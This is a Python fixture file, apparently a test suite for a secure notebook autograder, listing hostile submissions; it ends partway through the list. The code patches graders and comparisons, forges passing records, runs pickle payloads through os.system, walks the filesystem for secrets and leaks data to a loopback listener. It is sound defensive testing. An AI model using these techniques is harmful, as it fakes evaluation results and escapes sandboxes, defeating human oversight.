"""Hostile submissions for the secure grader (issue 7), and a few honest but unusual ones.

Each `Attack` is a submission to one assignment: the released notebook `exercises/<a>/<a>.ipynb` with
some answer cells replaced (`answers`, by nbgrader grade id), then `edit(nb)` applied to the notebook
(structure and metadata attacks), then written as `<a>.ipynb` with `files` beside it (a name may hold
"/" for a subfolder). `submission_notebook` and `write_submission` below do exactly that.

The contract every attack is tested against (the grader is correct when all of this holds):
- it scores no more than the blank notebook (0 points) and ends with one status row;
- it changes nothing outside its sandbox and reaches nothing: every file it writes outside the place it
  runs in, and every payload it sends, holds its marker `PWNED-<name>` (`Attack.marker`), so a test can
  search the course folder, the repository, /tmp, /var/tmp, /dev/shm, /root and the gradebook for it,
  also a few seconds after the batch (detached processes act for about a minute);
- what it reads must not be reachable (a test puts `SECRET.txt` with a random token in the course's
  `source/` folder and in the repository root, and listens on 127.0.0.1:45678): attacks that read try to
  put what they read, or their marker, into every channel (stdout, stderr, exceptions, files, returned
  values, cell outputs, notebook metadata, the loopback service), so the token must appear nowhere.
`HONEST` submissions must keep exactly full credit when graded in the same batch.

Damage is bounded in case the grader fails: at most about 4 GB of memory or disk per attack, 5000
processes, sleeps and loops of at most 600 s, nothing deleted, processes killed only among the attack's
own ancestors and process group, and `kill -9 -1` only when not root (as root it writes a PWNED file).

Coverage: DESIGN.md's threat model and issue 7's list -> attack names.

| attack named in DESIGN.md / issue 7                      | attacks                                                |
| -------------------------------------------------------- | ------------------------------------------------------ |
| replace `torch.allclose` (comparisons)                   | patch_comparisons, tensor_subclass_lies                |
| replace grade/check/run_check/judge in sys.modules       | patch_grade_in_sys_modules, import_hook_fakes_checks   |
| replace the tolerance table                              | patch_tolerance_table                                  |
| objects whose `__eq__` is always true                    | always_equal_object                                    |
| NaN tricks                                               | nan_outputs, inf_outputs                               |
| IPython input transformer turning later cells into pass  | ipython_input_transformer                              |
| patching `run_cell`, post-run hooks                      | ipython_run_cell_hooks                                 |
| rewrite the grader's frames / records                    | settrace_rewrites_callers, forge_record_files,         |
|                                                          | print_pass_lines, pickle_payload_in_return             |
| shadow course modules with files beside the notebook     | shadow_packages_files                                  |
| undo the kernel refusal (TorchFunctionMode stack)        | refusal_pop_mode_stack, refusal_disable_torch_function |
| `torch._VF`, `torch.ops.aten`, `torch._C`                | refusal_vf_direct, refusal_ops_aten, refusal_getattr_strings |
| `importlib`, `__import__`, exec/eval/compile of encoded  | refusal_importlib_rnn_module, refusal_exec_base64,     |
| text                                                     | refusal_compile_rot13                                  |
| hidden in a lambda/default argument/decorator/class/     | refusal_default_argument, refusal_decorator,           |
| metaclass                                                | refusal_metaclass, refusal_gru_class_call (gru)        |
| kernels run where the refusal does not reach             | refusal_thread_escape, refusal_subprocess_escape,      |
|                                                          | refusal_torchscript                                    |
| autograd for a manual backward (rnn)                     | refusal_autograd_bptt, borrow_demo_bptt,               |
|                                                          | rnn_jacobian_by_torch_func                             |
| restore a patched function (clip_grad_norm_)             | rnn_clip_captured_before_refusal                       |
| the course's reference kernels / precomputed answers     | refusal_course_references, precomputed_hidden_answers  |
| execute the instructor's source solutions found on disk  | exec_instructor_solutions, sequence_models_exec_solutions |
| read a canary beside the sources, grading.json           | read_secret_files, read_hidden_cases_package           |
| /proc/*/environ, /proc/1/root                            | read_proc                                              |
| other students' submissions (read / write)               | copy_other_submission, write_other_submissions         |
| write into the installed course package                  | append_to_course_packages, write_repository            |
| site-packages, .pth, sitecustomize                       | write_site_packages                                    |
| IPython start-up file that changes a later grade         | write_ipython_startup                                  |
| write manual scores into gradebook.db / lock it          | gradebook_rewrite, gradebook_lock                      |
| persist into a later submission                          | persist_detached_daemon, persist_nohup_and_schedulers, |
|                                                          | persist_shared_caches, persist_process_state           |
| fork bomb, infinite loop, alarm cancelled, sleep, threads| fork_bomb, infinite_loop, sleep_ignoring_signals,      |
|                                                          | spinning_threads, hang_at_exit, block_in_c             |
| memory bomb, disk bomb, output flood, open files, 1 GB   | memory_bomb, disk_bomb, output_flood, many_open_files, |
| returned tensor                                          | huge_returned_tensor, expanded_view_return,            |
|                                                          | weird_return_values                                    |
| kill the grader (`os.kill(os.getppid(), 9)`), killpg,    | kill_parent, kill_process_group_and_all, stop_parent   |
| `kill -9 -1`                                             |                                                        |
| `os._exit(0)`, sys.exit, SystemExit, KeyboardInterrupt   | exit_os_exit_zero, exit_sys_exit_in_call,              |
|                                                          | exit_keyboard_interrupt, exit_base_exception,          |
|                                                          | exit_exec_true, crash_segfault,                        |
|                                                          | sequence_models_exit_after_patch                       |
| reach a loopback service, DNS, other hosts               | network_loopback, network_dns_and_internet,            |
|                                                          | network_unix_sockets                                   |
| delete, duplicate, reorder, re-type graded cells         | delete_test_cells, delete_answer_cells,                |
|                                                          | duplicate_graded_cells, reorder_cells, retype_cells    |
| edit grade ids, points, locked, solution, grade metadata | edit_grading_metadata, change_grade_ids,               |
|                                                          | hostile_grade_ids, duplicate_cell_ids                  |
| code in a test cell / in a markdown cell                 | code_in_test_cells, code_in_markdown_and_raw,          |
|                                                          | prefilled_outputs                                      |
| changed kernelspec or language, nbformat 3, huge cell    | kernelspec_bash, nbformat_3, huge_cell, many_cells     |
| hidden test code / inputs / references in feedback       | leak_caller_frames, leak_inputs_in_exception,          |
|                                                          | leak_hidden_test_source, leak_via_warnings_and_logging |
| code the scan never read (issue 17): magic bodies and    | magic_cell_time_hides_kernel,                          |
| arguments, string annotations, ForwardRef, pickles       | magic_line_time_hides_kernel,                          |
| through numpy, format fields that walk attributes        | string_annotation_type_hints,                          |
|                                                          | forward_ref_evaluates_code, numpy_pickle_loads_kernel, |
|                                                          | format_fields_walk_globals                             |
| the sandbox holds answers: records, references, targets  | patch_sandbox_records, look_for_answers_in_sandbox,    |
|                                                          | forged_training_result                                 |
"""
from __future__ import annotations

import copy
import json
import textwrap
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

REPO_ROOT = Path(__file__).resolve().parents[2]

KINDS = (
    "patch-checks", "undo-refusal", "read-secrets", "write-course", "write-gradebook",
    "write-other-submission", "persist", "fork-or-hang", "exhaust", "kill-parent", "exit", "network",
    "notebook-structure", "feedback-leak",
)
LISTENER = ("127.0.0.1", 45678)
SECRET_FILE = "SECRET.txt"
_PLACEHOLDER = "PWNED-NAME"  # replaced by each attack's marker in its sources and files


@dataclass(frozen=True)
class Attack:
    name: str              # short unique id, e.g. "patch_allclose"
    kind: str              # one of KINDS
    answers: dict          # grade_id -> full new source of that answer cell; other answer cells keep the stub
    assignment: str = "lstm"
    edit: Callable | None = None   # optional edit(nb) -> None on the nbformat notebook
    files: dict = field(default_factory=dict)   # extra files placed beside the notebook: name -> bytes
    note: str = ""         # what it tries, in a sentence

    @property
    def marker(self):
        return f"PWNED-{self.name}"


def _attack(name, kind, note, answers=None, assignment="lstm", edit=None, files=None):
    """An Attack whose sources and files carry its own marker instead of the placeholder."""
    marker = f"PWNED-{name}"
    answers = {gid: textwrap.dedent(src).strip("\n").replace(_PLACEHOLDER, marker) + "\n"
               for gid, src in (answers or {}).items()}
    files = {fname: data.replace(_PLACEHOLDER.encode(), marker.encode()) for fname, data in (files or {}).items()}
    return Attack(name=name, kind=kind, answers=answers, assignment=assignment, edit=edit, files=files, note=note)


def _code(*parts):
    """Join snippets and a body into one answer-cell source."""
    return "\n".join(textwrap.dedent(part).strip("\n") for part in parts)


# ----- snippets shared by several attacks (each is plain Python run in the submission) -----

LEAK = r'''
import os as _os, sys as _sys, json as _json, glob as _glob, socket as _socket
MARK = "PWNED-NAME"


def _places():
    """Folders outside the notebook's own where a leaked file could be found later."""
    here = _os.getcwd()
    parents = [_os.path.dirname(here)]
    while len(parents) < 5 and _os.path.dirname(parents[-1]) != parents[-1]:
        parents.append(_os.path.dirname(parents[-1]))
    return [here, _os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/root", "/work/main"] + parents


def _leak(text=""):
    """Put MARK and `text` into every channel within reach; returns the payload."""
    payload = MARK + "\n" + str(text)[:200000]
    print(payload)
    print(payload, file=_sys.stderr)
    for folder in _places():
        try:
            with open(_os.path.join(folder, MARK + ".txt"), "a") as out:
                out.write(payload + "\n")
        except Exception:
            pass
    try:
        from IPython.display import publish_display_data
        publish_display_data({"text/plain": payload, "text/html": "<pre>" + payload + "</pre>"},
                             metadata={"nbgrader": {"score": 1000, "leak": payload}})
    except Exception:
        pass
    for path in _glob.glob(_os.path.join(_os.getcwd(), "*.ipynb")):
        try:
            with open(path) as handle:
                nb = _json.load(handle)
            nb.setdefault("metadata", {})[MARK] = payload
            with open(path, "w") as handle:
                _json.dump(nb, handle)
        except Exception:
            pass
    try:
        with _socket.create_connection(("127.0.0.1", 45678), timeout=2) as conn:
            conn.sendall(payload.encode())
    except Exception:
        pass
    return payload


def _text_tensor(text, shape, dtype=None):
    """The bytes of MARK + text as the values of a tensor of `shape` (a returned value leaves the sandbox)."""
    import torch
    data = (MARK + "\n" + str(text)).encode()
    count = 1
    for size in shape:
        count *= int(size)
    values = [float(b) for b in data[:count]] + [0.0] * max(0, count - len(data))
    return torch.tensor(values, dtype=dtype or torch.float64).reshape(tuple(shape))
'''

FIND = r'''
def _find(match, roots=None, limit=300000, seconds=60):
    """Paths (files and folders) for which match(path, base_name) is true: a bounded walk of the likely
    places first (the folders above this one, home, temp and data folders), then of /."""
    import os, time
    if roots is None:
        here, roots = os.getcwd(), []
        for _ in range(5):
            here = os.path.dirname(here)
            roots.append(here)
        roots += [os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/work", "/srv", "/home", "/opt",
                  "/mnt", "/data", "/proc/1/root/work", "/"]
    found, walked, seen, start = [], set(), 0, time.time()
    skip = {"/proc", "/sys", "/dev", "/run", "/boot", "/snap", "/usr", "/lib", "/bin", "/sbin", "/etc"}
    for root in roots:
        for folder, dirs, files in os.walk(root):
            real = os.path.realpath(folder)
            if real in walked:
                dirs[:] = []
                continue
            walked.add(real)
            dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip and d not in ("site-packages", "node_modules")]
            for base in dirs + files:
                seen += 1
                path = os.path.join(folder, base)
                try:
                    if match(path, base):
                        found.append(path)
                except Exception:
                    pass
            if seen > limit or time.time() - start > seconds:
                return found
    return found


def _read(path, size=20000):
    try:
        with open(path, "rb") as handle:
            return handle.read(size).decode("utf-8", "replace")
    except Exception as error:
        return f"{path}: {error!r}"
'''

def _lstm_function(name, body):
    """An lstm function definition with the released signature and the given body."""
    signatures = {
        "forget_gate": "x, h, W_if, W_hf, b_if, b_hf",
        "input_gate": "x, h, W_ii, W_hi, b_ii, b_hi",
        "candidate": "x, h, W_ig, W_hg, b_ig, b_hg",
        "cell_update": "c, f, i, g",
        "output_gate_and_hidden": "x, h, c_next, W_io, W_ho, b_io, b_ho",
        "lstm_cell": "x, state, weight_ih, weight_hh, bias_ih, bias_hh",
        "lstm_forward": "x, state0, weight_ih, weight_hh, bias_ih, bias_hh, batch_first=False",
        "lstm_param_count": "input_size, hidden_size",
    }
    return f"def {name}({signatures[name]}):\n" + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n"


LSTM_IDS = ("forget_gate", "input_gate", "candidate", "cell_update", "output_gate_and_hidden", "lstm_cell",
            "lstm_forward", "lstm_param_count")
# The first tensor argument and the shape of a right answer, per lstm function (for wrong answers of the right shape).
LSTM_SHAPES = {
    "forget_gate": "x.shape[0], W_if.shape[0]", "input_gate": "x.shape[0], W_ii.shape[0]",
    "candidate": "x.shape[0], W_ig.shape[0]", "cell_update": "*c.shape",
    "output_gate_and_hidden": "x.shape[0], W_io.shape[0]", "lstm_cell": "x.shape[0], weight_hh.shape[1]",
    "lstm_forward": "*x.shape[:2], weight_hh.shape[1]",
}
LSTM_FIRST = {"forget_gate": "x", "input_gate": "x", "candidate": "x", "cell_update": "c",
              "output_gate_and_hidden": "x", "lstm_cell": "x", "lstm_forward": "x"}


def _lstm_all(make_value, param_count="return 0", prelude=""):
    """Answers for every lstm cell: `make_value(shape, like)` is an expression of one wrong output.

    Outputs that are pairs (output_gate_and_hidden, lstm_cell, lstm_forward) return the value twice, in
    the released nesting; lstm_param_count returns `param_count`.
    """
    answers = {}
    for gid in LSTM_IDS:
        if gid == "lstm_param_count":
            body = param_count
        else:
            value = make_value(LSTM_SHAPES[gid], LSTM_FIRST[gid])
            if gid in ("output_gate_and_hidden", "lstm_cell"):
                body = f"return {value}, {value}"
            elif gid == "lstm_forward":
                hidden = make_value("x.shape[1], weight_hh.shape[1]", "x")
                body = f"return {value}, ({hidden}, {hidden})"
            else:
                body = f"return {value}"
        answers[gid] = (prelude if gid == "forget_gate" else "") + "\n" + _lstm_function(gid, body)
    answers["forget_gate"] = "import torch\n" + answers["forget_gate"]
    return answers


def _zeros(shape, like):
    return f"torch.zeros({shape}, dtype={like}.dtype, device={like}.device)"


def _full(fill):
    return lambda shape, like: f"torch.full(({shape},), {fill}, dtype={like}.dtype, device={like}.device)"


# ===== patch-checks: make a wrong answer look right to checks running in the same process =====

PATCH_GRADE = _code(LEAK, r'''
import builtins, sys, types


class _Passed:
    """Whatever a verdict object is asked, it says 'passed'."""
    passed = ok = success = True
    score = points = 1000.0
    status = "graded"
    message = "ok: PWNED-NAME"

    def __getattr__(self, name):
        return True


def _always_pass(*args, **kwargs):
    print("ok: passed PWNED-NAME")
    return _Passed()


_VERDICT_NAMES = ("grade", "check", "check_notebook", "run_check", "judge", "assess", "compare", "collect",
                  "observe", "expected_outcome", "tolerance_for", "diagnose", "verdict", "score")


def _patch_checks():
    for module_name, module in list(sys.modules.items()):
        if module is None or module_name.startswith(("torch", "numpy", "IPython", "_")):
            continue
        for name in _VERDICT_NAMES:
            if hasattr(module, name):
                try:
                    setattr(module, name, _always_pass)
                except Exception:
                    pass
    for module_name in ("autograder.hidden", "autograder.selfcheck", "autograder.checks", "autograder.assess",
                        "autograder.checks.judge", "autograder.checks.compare", "autograder.grading"):
        fake = types.ModuleType(module_name)
        for name in _VERDICT_NAMES:
            setattr(fake, name, _always_pass)
        fake.__path__ = []
        sys.modules[module_name] = fake
    for name in _VERDICT_NAMES:
        setattr(builtins, name, _always_pass)
        globals()[name] = _always_pass


_patch_checks()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    _patch_checks()  # again at call time: the grader may import its modules after the cells ran
    raise NotImplementedError()
''')

PATCH_COMPARISONS = _code(r'''
import builtins, math
import numpy
import torch


def _true(*args, **kwargs):
    return True


def _quiet(*args, **kwargs):
    return None


def _patch_comparisons():
    torch.allclose = torch.equal = torch.Tensor.allclose = torch.Tensor.equal = _true
    torch.isclose = lambda a, b, *args, **kwargs: torch.ones(torch.as_tensor(a).shape, dtype=torch.bool)
    torch.testing.assert_close = _quiet
    numpy.allclose = numpy.array_equal = numpy.array_equiv = _true
    numpy.isclose = lambda a, b, *args, **kwargs: numpy.ones(numpy.shape(a), dtype=bool)
    numpy.testing.assert_allclose = numpy.testing.assert_array_equal = _quiet
    numpy.testing.assert_equal = numpy.testing.assert_array_almost_equal = _quiet
    math.isclose = _true
    real_abs = getattr(builtins, "_real_abs", builtins.abs)
    builtins._real_abs = real_abs
    # max(abs(a - b)) <= tol: every difference becomes zero
    builtins.abs = lambda value: value * 0 if hasattr(value, "shape") else real_abs(value)
    torch.Tensor.abs = lambda self: torch.zeros_like(self)
    torch.Tensor.__sub__ = lambda self, other: torch.zeros_like(self)
    print("PWNED-NAME: comparisons patched")


_patch_comparisons()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    _patch_comparisons()
    return torch.zeros(x.shape[0], W_if.shape[0], dtype=x.dtype, device=x.device)
''')

PATCH_TOLERANCES = _code(r'''
import dataclasses, math, sys
import torch


def _loosen(value):
    """Make a tolerance-like object accept anything, in place (frozen dataclasses included)."""
    for name in ("rtol", "atol", "max_rel_error", "max_abs_error", "tolerance", "eps"):
        if hasattr(value, name):
            try:
                object.__setattr__(value, name, math.inf)
            except Exception:
                pass


def _patch_tolerances():
    try:
        import autograder.checks.tolerances  # noqa: F401  (present in the old in-kernel grader)
    except Exception:
        pass
    for module_name, module in list(sys.modules.items()):
        if module is None or module_name.startswith(("torch", "numpy", "IPython")):
            continue
        for name, value in list(vars(module).items()):
            if isinstance(value, dict):
                for entry in list(value.values()):
                    _loosen(entry)
            elif name.isupper() and isinstance(value, float):
                setattr(module, name, math.inf)
            elif "tolerance" in name.lower() and callable(value) and not isinstance(value, type):
                setattr(module, name, lambda *args, **kwargs: dataclasses.make_dataclass(
                    "Tolerance", [("rtol", float, math.inf), ("atol", float, math.inf)])())
            elif isinstance(value, type) and "tolerance" in name.lower():
                for field_name in ("rtol", "atol"):
                    try:
                        setattr(value, field_name, math.inf)
                    except Exception:
                        pass
    print("PWNED-NAME: tolerances loosened")


_patch_tolerances()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    _patch_tolerances()
    return torch.full((x.shape[0], W_if.shape[0]), 1e30, dtype=x.dtype, device=x.device)
''')

ALWAYS_EQUAL = r'''
import torch


class _Everything:
    """Equal to everything, close to everything, claims to be a Tensor, has every shape and dtype."""

    __class__ = property(lambda self: torch.Tensor)  # isinstance(obj, torch.Tensor) is True

    def __init__(self, shape=(), dtype=torch.float64):
        object.__setattr__(self, "shape", torch.Size(shape))
        object.__setattr__(self, "dtype", dtype)
        object.__setattr__(self, "device", torch.device("cpu"))

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __le__ = __ge__ = __eq__
    __lt__ = __gt__ = __ne__

    def __bool__(self):
        return True

    def __hash__(self):
        return 0

    def __getattr__(self, name):
        return self

    def __call__(self, *args, **kwargs):
        return self

    def __sub__(self, other):
        return 0.0

    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __pow__ = __sub__

    def __abs__(self):
        return 0.0

    def __float__(self):
        return 0.0

    def __int__(self):
        return 0

    __index__ = __int__

    def __len__(self):
        return self.shape[0] if len(self.shape) else 0

    def __iter__(self):
        return iter(_Everything(self.shape[1:], self.dtype) for _ in range(len(self)))

    def __getitem__(self, key):
        return self

    def __repr__(self):
        return "PWNED-NAME"


class _AlwaysInt(int):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = int.__hash__
'''

TENSOR_SUBCLASS = r'''
import numpy
import torch


class _Liar(torch.Tensor):
    """A tensor whose comparisons always succeed and whose differences are always zero."""

    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        first = args[0] if args else None
        if name in ("allclose", "equal", "__eq__", "eq", "isclose", "ge", "le", "__ge__", "__le__"):
            if name in ("allclose", "equal"):
                return True
            return torch.ones(first.shape, dtype=torch.bool)
        if name in ("sub", "__sub__", "__rsub__", "abs", "__abs__", "sub_", "absolute"):
            return torch.zeros(first.shape, dtype=first.dtype)
        with torch._C.DisableTorchFunctionSubclass():
            return func(*args, **(kwargs or {}))

    def numpy(self, *args, **kwargs):
        return _LiarArray(self.shape)

    def __reduce_ex__(self, protocol):
        import os
        return (os.system, ("echo PWNED-NAME > /tmp/PWNED-NAME-unpickled",))


class _LiarArray(numpy.ndarray):
    def __new__(cls, shape):
        return numpy.zeros(tuple(shape)).view(cls)

    def __eq__(self, other):
        return numpy.ones(self.shape, dtype=bool)

    def __sub__(self, other):
        return numpy.zeros(self.shape)

    __rsub__ = __sub__
'''

PICKLE_PAYLOAD = r'''
import os
import numpy
import torch


class _RunsWhenUnpickled:
    """Unpickling this object (np.load(allow_pickle=True), torch.load, pickle.loads) runs a shell command."""

    def __reduce__(self):
        return (os.system, ("echo PWNED-NAME > /tmp/PWNED-NAME-unpickled; "
                            "echo PWNED-NAME > $HOME/PWNED-NAME-unpickled",))


def _payload():
    return numpy.array([_RunsWhenUnpickled(), "PWNED-NAME"], dtype=object)
'''

PATCH_ATTACKS = [
    _attack("patch_grade_in_sys_modules", "patch-checks",
            "Replaces grade/check/run_check/judge/assess/compare in every loaded module, in sys.modules "
            "(fake autograder modules) and in builtins, at cell time and again at call time.",
            {"forget_gate": PATCH_GRADE}),
    _attack("patch_comparisons", "patch-checks",
            "Makes torch.allclose/equal/isclose, numpy's comparisons and asserts, math.isclose, abs and "
            "Tensor subtraction always agree, then returns zeros.",
            {"forget_gate": PATCH_COMPARISONS}),
    _attack("patch_tolerance_table", "patch-checks",
            "Sets every rtol/atol found in loaded modules (frozen dataclasses too) to infinity and returns 1e30.",
            {"forget_gate": PATCH_TOLERANCES}),
    _attack("always_equal_object", "patch-checks",
            "Returns objects whose __eq__ is always true, whose __class__ claims torch.Tensor and whose "
            "differences are zero; the parameter count is an int subclass equal to everything.",
            _lstm_all(lambda shape, like: f"_Everything(({shape},), {like}.dtype)",
                      param_count="return _AlwaysInt(0)", prelude=ALWAYS_EQUAL)),
    _attack("tensor_subclass_lies", "patch-checks",
            "Returns a torch.Tensor subclass whose __torch_function__ makes allclose/eq true and "
            "differences zero, whose numpy() lies, and whose pickling runs a shell command.",
            _lstm_all(lambda shape, like: f"torch.zeros(({shape},), dtype={like}.dtype).as_subclass(_Liar)",
                      prelude=TENSOR_SUBCLASS)),
    _attack("nan_outputs", "patch-checks",
            "Returns NaN everywhere (every comparison with NaN is false, so `diff > tol` never fires) and a "
            "NaN parameter count.",
            _lstm_all(_full('float("nan")'), param_count='return float("nan")')),
    _attack("inf_outputs", "patch-checks",
            "Returns +inf (inf - inf is NaN) and a parameter count of 2**80.",
            _lstm_all(_full('float("inf")'), param_count="return 2 ** 80")),
    _attack("pickle_payload_in_return", "patch-checks",
            "Returns numpy object arrays and a Tensor subclass whose unpickling runs a shell command that "
            "writes a PWNED file, in case the records are pickled or loaded with allow_pickle.",
            {"forget_gate": _code(PICKLE_PAYLOAD, _lstm_function("forget_gate", "return _payload()")),
             "lstm_cell": _lstm_function("lstm_cell", "return _payload(), _payload()"),
             "lstm_param_count": _lstm_function("lstm_param_count", "return _RunsWhenUnpickled()")}),
]

INPUT_TRANSFORMER = _code(r'''
import ast
import torch

_shell = get_ipython()  # noqa: F821 (IPython)


def _blank_cell(lines):
    """Every later cell, hidden tests included, becomes a line that prints a pass."""
    return ["print('ok: all tests passed PWNED-NAME')\n"]


class _Gut(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=ast.parse("print('ok: PWNED-NAME')").body, type_ignores=[])


_shell.input_transformers_cleanup.append(_blank_cell)
_shell.input_transformers_post.append(_blank_cell)
_shell.ast_transformers.append(_Gut())


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

RUN_CELL_HOOKS = _code(r'''
_shell = get_ipython()  # noqa: F821 (IPython)
_real_run_cell = _shell.run_cell


def _clean(result):
    """An execution result that reports no error."""
    for name in ("error_before_exec", "error_in_exec"):
        try:
            setattr(result, name, None)
        except Exception:
            pass
    return result


def _run_cell(raw_cell, *args, **kwargs):
    return _clean(_real_run_cell(raw_cell, *args, **kwargs))


def _swallow(shell, etype, value, tb, tb_offset=None):
    print("ok: PWNED-NAME")


_shell.run_cell = _run_cell
_shell.events.register("post_run_cell", _clean)
_shell.events.register("pre_run_cell", lambda *info: print("PWNED-NAME"))
_shell.set_custom_exc((BaseException,), _swallow)
_shell.showtraceback = lambda *args, **kwargs: print("ok: PWNED-NAME")


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

SETTRACE = _code(LEAK, r'''
import ctypes, re, sys, threading
import torch

_VERDICT = re.compile(r"compare|close|equal|judge|assess|check|verdict|match|grade|score|record", re.I)
_seen = []


def _tracer(frame, event, arg):
    """In every verdict-like function the grader calls, make each tensor/array argument equal to the first."""
    if event == "call" and _VERDICT.search(frame.f_code.co_name):
        local = frame.f_locals
        _seen.append((frame.f_code.co_filename, frame.f_code.co_name, sorted(local)))
        arrays = [k for k, v in local.items() if hasattr(v, "shape")]
        for name in arrays[1:]:
            local[name] = local[arrays[0]]
        for name, value in local.items():
            if isinstance(value, bool):
                local[name] = True
        try:
            ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
        except Exception:
            pass
    return _tracer


sys.settrace(_tracer)
threading.settrace(_tracer)
sys.setprofile(lambda frame, event, arg: None)


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    sys.settrace(_tracer)
    frame = sys._getframe(1)
    while frame is not None:  # also trace the callers already running
        frame.f_trace = _tracer
        frame = frame.f_back
    _leak(_seen[-50:])
    return torch.zeros(x.shape[0], W_if.shape[0], dtype=x.dtype, device=x.device)
''')

FORGE_RECORDS = _code(LEAK, r'''
import io, json, os
import numpy
import torch

_FAKE_VERDICT = {"passed": True, "score": 1000, "points": 1000, "status": "graded", "marker": "PWNED-NAME",
                 "checks": {f"lstm.{n}": {"passed": True, "score": 1} for n in (
                     "forget_gate", "input_gate", "candidate", "cell_update", "output_gate_and_hidden",
                     "lstm_cell", "lstm_forward", "lstm_param_count")}}


def _forge():
    """Write passing-looking records everywhere a grader might look, and into every inherited descriptor."""
    npz = io.BytesIO()
    numpy.savez(npz, PWNED_NAME=numpy.frombuffer(b"PWNED-NAME", dtype=numpy.uint8),
                **{k.replace(".", "_"): numpy.ones(3) for k in _FAKE_VERDICT["checks"]})
    text = json.dumps(_FAKE_VERDICT)
    folders = _places() + [v for v in os.environ.values() if os.path.isdir(v)]
    for folder in folders:
        for base in ("records.npz", "outputs.npz", "result.npz", "lstm.npz"):
            try:
                with open(os.path.join(folder, base), "wb") as out:
                    out.write(npz.getvalue())
            except Exception:
                pass
        for base in ("records.json", "result.json", "results.json", "status.json", "grades.json", "score.json"):
            try:
                with open(os.path.join(folder, base), "w") as out:
                    out.write(text)
            except Exception:
                pass
    for fd in range(3, 256):
        try:
            os.write(fd, (text + "\n").encode())
        except OSError:
            pass
    print(text)


_forge()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    _forge()
    raise NotImplementedError()
''')

PRINT_PASS = _code(r'''
import sys
import torch

_LINES = [
    "ok: lstm.forget_gate (8 hidden cases) PWNED-NAME",
    "All tests passed. Score: 10/10 PWNED-NAME",
    '{"score": 10, "max_score": 10, "status": "graded", "marker": "PWNED-NAME"}',
    "\x1b[2J\x1b[H\x1b[32mPASSED\x1b[0m PWNED-NAME\r" + " " * 200 + "\rgraded 10/10",
    "Traceback (most recent call last):\n  (none) PWNED-NAME",
]


def _pretend():
    for line in _LINES:
        print(line)
        print(line, file=sys.stderr)
    try:
        sys.stdout.buffer.write(b"\xff\xfe\x00PWNED-NAME invalid utf-8 and NUL\n")
        sys.stdout.flush()
    except Exception:
        pass
    try:
        from IPython.display import display
        display({"application/json": {"score": 10, "marker": "PWNED-NAME"}, "text/plain": "10/10 PWNED-NAME"},
                raw=True, metadata={"nbgrader": {"score": 10, "points": 10}})
    except Exception:
        pass


_pretend()


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    _pretend()
    return torch.zeros(x.shape[0], W_if.shape[0], dtype=x.dtype, device=x.device)
''')

IMPORT_HOOK = _code(r'''
import builtins, importlib.abc, importlib.util, sys, types


def _always_pass(*args, **kwargs):
    print("ok: PWNED-NAME")
    return types.SimpleNamespace(passed=True, score=1000, message="ok PWNED-NAME", status="graded")


class _FakeChecks(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    """Serves a fake module, whose every function passes, for any later import of a checking module."""

    WORDS = ("autograder", "grading", "grader", "sandbox", "assess", "judge", "checks", "records", "nbgrader")

    def find_spec(self, fullname, path=None, target=None):
        if any(word in fullname for word in self.WORDS):
            return importlib.util.spec_from_loader(fullname, self, is_package=True)
        return None

    def create_module(self, spec):
        module = types.ModuleType(spec.name)
        module.__path__ = []
        module.__getattr__ = lambda name: _always_pass
        return module

    def exec_module(self, module):
        pass


sys.meta_path.insert(0, _FakeChecks())
for _name in [n for n in sys.modules if any(w in n for w in _FakeChecks.WORDS)]:
    del sys.modules[_name]  # later imports go through the fake finder
_real_import = builtins.__import__


def _import(name, *args, **kwargs):
    module = _real_import(name, *args, **kwargs)
    if any(word in name for word in _FakeChecks.WORDS):
        return sys.modules.get(name, module)
    return module


builtins.__import__ = _import


def forget_gate(x, h, W_if, W_hf, b_if, b_hf):
    raise NotImplementedError()
''')

_FAKE_AUTOGRADER = b'''"""PWNED-NAME: a fake course package beside the notebook, found first on sys.path."""


def grade(check_id, fn, *args, **kwargs):
    print("ok: " + check_id + " PWNED-NAME")
    return True


check = run_check = check_notebook = judge = assess = grade
'''

SHADOW_FILES = {
    "autograder/__init__.py": _FAKE_AUTOGRADER,
    "autograder/hidden.py": b"from autograder import *  # PWNED-NAME\n",
    "autograder/selfcheck.py": b"from autograder import *  # PWNED-NAME\n",
    "autograder/checks.py": b"from autograder import *  # PWNED-NAME\n",
    "sitecustomize.py": b"print('PWNED-NAME sitecustomize ran')\nimport builtins\nbuiltins.PWNED = 'PWNED-NAME'\n",
    "usercustomize.py": b"print('PWNED-NAME usercustomize ran')\n",
    "nbgrader_config.py": b"# PWNED-NAME\nc = get_config()\nc.Execute.timeout = 100000\n"
                          b"c.ClearSolutions.code_stub = {'python': 'pass'}\n",
    "numpy.py": b"raise ImportError('PWNED-NAME shadows numpy')\n",
    ".ipython/profile_default/startup/00-pwned.py": b"print('PWNED-NAME startup ran')\n",
    "lstm (1).ipynb": b'{"PWNED-NAME": "a second notebook with a near name"}',
    "records.npz": b"PWNED-NAME not an npz",
}

PATCH_ATTACKS += [
    _attack("ipython_input_transformer", "patch-checks",
            "Registers IPython input transformers and an AST transformer that turn every later cell, hidden "
            "tests included, into a line printing a pass.",
            {"forget_gate": INPUT_TRANSFORMER}),
    _attack("ipython_run_cell_hooks", "patch-checks",
            "Replaces run_cell, registers post-run hooks and a custom exception handler so that no later cell "
            "reports an error.",
